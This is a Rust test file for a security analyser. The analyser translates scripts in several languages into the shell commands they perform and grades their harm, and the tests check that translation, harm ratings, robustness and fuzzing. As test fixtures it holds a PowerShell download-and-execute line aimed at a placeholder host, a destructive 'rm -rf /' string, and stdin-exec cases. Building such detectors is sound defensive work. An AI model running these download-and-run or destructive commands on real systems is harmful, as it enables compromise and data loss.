// SPDX-License-Identifier: Apache-2.0
//! Code and the commands and effects it comes to.

mod others;
mod python;

use proptest::prelude::*;

use others::*;
use python::*;

use super::super::place::Setting;
use super::super::program::{Files, NoFiles, Outcome, Run};
use super::super::word::Taint;
use super::*;

#[derive(Debug)]
struct OneFile(&'static str, &'static str);

impl Files for OneFile {
    fn read(&self, path: &str) -> Option<Stream> {
        (path == self.0).then(|| Stream::known(self.1))
    }
}

fn outcome(language: &str, text: &str) -> Outcome {
    with(language, text, &Stream::empty(), &NoFiles)
}

fn with(language: &str, text: &str, stdin: &Stream, files: &dyn Files) -> Outcome {
    let setting = Setting::default();
    let args = [super::super::word::Arg::known("/first")];
    let call = Call {
        name: language,
        args: &args,
        stdin,
        cwd: Some("/workspace"),
        setting: &setting,
        files,
    };
    analyse(language, text, &call)
}

/// What runs, a line each: `rm -rf /x`, `$ line of shell`, `code python: …`, `file sh: …`.
fn lines(outcome: &Outcome) -> Vec<String> {
    let show = |text: &str| text.replace(UNKNOWN, "?");
    outcome
        .runs
        .iter()
        .map(|run| match run {
            Run::Command { words, stdin } => {
                let words: Vec<String> = words.iter().map(|word| show(&word.text)).collect();
                let input = stdin.text.as_ref().filter(|text| !text.is_empty());
                let input = input.map_or(String::new(), |text| format!(" <<< {text}"));
                format!("{}{input}", words.join(" "))
            }
            Run::Shell { text, host, .. } => match host {
                Some(host) => format!("{host} $ {}", show(&text.text)),
                None => format!("$ {}", show(&text.text)),
            },
            Run::Code { language, text } => format!("code {language}: {}", show(&text.text)),
            Run::File { language, path, .. } => format!("file {language}: {}", show(&path.text)),
            Run::Target { tool, name } => format!("target {tool}: {name}"),
        })
        .collect()
}

fn runs(language: &str, cases: &[(&str, &[&str])]) {
    let mut wrong = Vec::new();
    for (text, wanted) in cases {
        let outcome = outcome(language, text);
        let found = lines(&outcome);
        if found != *wanted {
            wrong.push(format!(
                "{language}: {text}
  {found:?}
  {:?}",
                outcome.effects
            ));
        }
    }
    assert!(
        wrong.is_empty(),
        "{}",
        wrong.join(
            "
"
        )
    );
}

/// Each text has an effect by this rule, at this harm.
fn effects(language: &str, cases: &[(&str, &str, Harm)]) {
    let mut wrong = Vec::new();
    for (text, rule, harm) in cases {
        let outcome = outcome(language, text);
        let mut effects = outcome.effects.iter();
        if !effects.any(|effect| effect.rule == *rule && effect.harm == *harm) {
            let lines = lines(&outcome);
            wrong.push(format!(
                "{language}: {text}
  {lines:?}
  {:?}",
                outcome.effects
            ));
        }
    }
    assert!(
        wrong.is_empty(),
        "{}",
        wrong.join(
            "
"
        )
    );
}

fn harmless(language: &str, cases: &[&str]) {
    let mut wrong = Vec::new();
    for text in cases {
        let outcome = outcome(language, text);
        let lines = lines(&outcome);
        let mut lines = lines.iter();
        let only_files = lines.all(|line| line.starts_with("cat ") || line.starts_with("tee "));
        if !only_files || !outcome.effects.is_empty() || !outcome.findings.is_empty() {
            wrong.push(format!(
                "{language}: {text}
  {outcome:?}"
            ));
        }
    }
    assert!(
        wrong.is_empty(),
        "{}",
        wrong.join(
            "
"
        )
    );
}

const POWERSHELL_EFFECTS: &[(&str, &str, Harm)] = &[(
    "IEX (New-Object Net.WebClient).DownloadString('http://a.example')",
    "code:run-download",
    Harm::Critical,
)];

#[test]
fn python_becomes_the_commands_that_do_the_same() {
    runs("python", PYTHON_RUNS);
}

#[test]
fn python_constants_are_put_together_before_they_are_judged() {
    runs("python", PYTHON_CONSTANTS);
    effects("python", PYTHON_HIDDEN);
}

#[test]
fn python_that_speaks_to_hosts_is_curl() {
    runs("python", PYTHON_REQUESTS);
    effects("python", PYTHON_SENDS);
}

#[test]
fn python_that_computes_and_prints_has_no_effects() {
    harmless("python", PYTHON_HARMLESS);
}

#[test]
fn javascript_becomes_the_commands_that_do_the_same() {
    runs("node", NODE_RUNS);
    effects("node", NODE_EFFECTS);
    harmless("node", NODE_HARMLESS);
}

#[test]
fn perl_becomes_the_commands_that_do_the_same() {
    runs("perl", PERL_RUNS);
    effects("perl", PERL_EFFECTS);
    harmless("perl", PERL_HARMLESS);
}

#[test]
fn ruby_becomes_the_commands_that_do_the_same() {
    runs("ruby", RUBY_RUNS);
    effects("ruby", RUBY_EFFECTS);
    harmless("ruby", RUBY_HARMLESS);
}

#[test]
fn php_lua_awk_and_powershell_become_commands() {
    runs("php", PHP_RUNS);
    effects("php", PHP_EFFECTS);
    runs("lua", LUA_RUNS);
    runs("awk", AWK_RUNS);
    runs("powershell", POWERSHELL_RUNS);
    effects("powershell", POWERSHELL_EFFECTS);
}

#[test]
fn what_is_printed_is_known_when_all_of_it_is() {
    for (language, text, wanted) in [
        ("python", "print('rm -rf /')", Some("rm -rf /\n")),
        ("python", "print('a', end='')\nfoo()", None),
        ("python", "import os\nos.system('id')\nprint('x')", None),
        ("python", "print(input)", None),
        ("perl", "print 'rm';", None),
        ("ruby", "puts 'rm'", None),
        ("node", "console.log('rm')", Some("rm\n")),
        ("php", "echo 'rm';", Some("rm")),
    ] {
        let outcome = outcome(language, text);
        assert_eq!(outcome.stdout.text.as_deref(), wanted, "{language}: {text}");
    }
    let decoded = outcome(
        "python",
        "import base64\nprint(base64.b64decode('aWQ=').decode())",
    );
    assert!(decoded.stdout.taint.decoded);
}

#[test]
fn input_and_files_that_are_known_are_followed() {
    let stdin = Stream {
        text: Some("import os; os.system('id')".to_owned()),
        taint: Taint {
            network: Some("a.example".to_owned()),
            ..Taint::default()
        },
    };
    let outcome = with(
        "python",
        "import sys; exec(sys.stdin.read())",
        &stdin,
        &NoFiles,
    );
    assert_eq!(lines(&outcome), ["$ id"]);
    assert!(
        outcome
            .effects
            .iter()
            .any(|effect| effect.rule == "code:run-download")
    );
    let file = OneFile("/workspace/cmd.txt", "id");
    let text = "import os; os.system(open('cmd.txt').read().strip())";
    let outcome = with("python", text, &Stream::empty(), &file);
    assert_eq!(lines(&outcome), ["cat cmd.txt", "$ id"]);
}

#[test]
fn code_that_is_too_much_is_said_to_be() {
    let has = |outcome: &Outcome, hard| outcome.findings.iter().any(|finding| finding.hard == hard);
    let long = format!("x = 1\n{}", "# more\n".repeat(10_000));
    assert!(has(&outcome("python", &long), Hard::TooMuch));
    let deep = format!("{}1{}", "(".repeat(500), ")".repeat(500));
    assert!(has(
        &outcome("python", &format!("print({deep})")),
        Hard::TooMuch
    ));
    assert!(has(&outcome("node", &deep), Hard::TooMuch));
    let endless = "def f():\n    f()\n    f()\n    f()\nf()".to_owned()
        + "\nx = 'a' * 60000\nwhile x:\n    x = x + 'b'";
    assert!(outcome("python", &endless).runs.is_empty());
    let many = "import os\nfor i in range(500):\n    os.system(str(i))";
    assert!(has(&outcome("python", many), Hard::TooMuch));
    assert!(has(&outcome("python", "import os\ndef ("), Hard::Unparsed));
    assert!(
        outcome("cobol", "x")
            .effects
            .iter()
            .any(|effect| effect.kind == Kind::Unknown)
    );
    assert!(has(
        &outcome("python", &UNKNOWN.to_string()),
        Hard::DynamicCode
    ));
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(100))]

    #[test]
    fn no_text_makes_any_language_panic(text in "\\PC{0,200}") {
        for language in ["python", "node", "perl", "ruby", "php", "lua", "awk", "powershell", "else"] {
            let _ = outcome(language, &text);
        }
    }

    #[test]
    fn no_pieces_of_code_make_any_language_panic(
        parts in prop::collection::vec(
            prop::sample::select(vec![
                "import os", "\n", "(", ")", "[", "]", "{", "}", "'", "\"", "`", "$x", "$", "@{[", "#{", "${", "=", "=>", ".",
                "->", "::", ":", "|", "||", "\\", "/", "%", "%q", "<<A", "s", "q", "system", "exec", "eval", "fn", "def f",
                "end", "do", "while", "for", "in", "if", "function", "sub", "x", " ", "1", "0x", "é", "\u{F0000}", "[[", "--",
                "/*", "*/", "print", "open", ",", ";", "+", "lambda", "async", "*", "**", "os.remove", "getline", ">", "-e",
            ]),
            0..60,
        ),
    ) {
        let text = parts.concat();
        for language in ["python", "node", "perl", "ruby", "php", "lua", "awk", "powershell"] {
            let _ = outcome(language, &text);
        }
    }
}

/// None of these may take a stack or minutes: a chain, a nest, a value in itself.
#[test]
fn code_that_goes_on_and_on_ends() {
    for part in [
        "(",
        "a+",
        ".b",
        "f(x)(x)\n",
        "x = [x, x]\n",
        "import ",
        "x=>",
        "\"#{",
        "if x\n",
    ] {
        let text = format!("x = 'a'\n{}", part.repeat((4 << 10) / part.len()));
        for language in [
            "python",
            "node",
            "perl",
            "ruby",
            "php",
            "lua",
            "awk",
            "powershell",
        ] {
            let outcome = outcome(language, &text);
            assert!(outcome.runs.len() <= 128, "{language}: {part}");
        }
    }
}
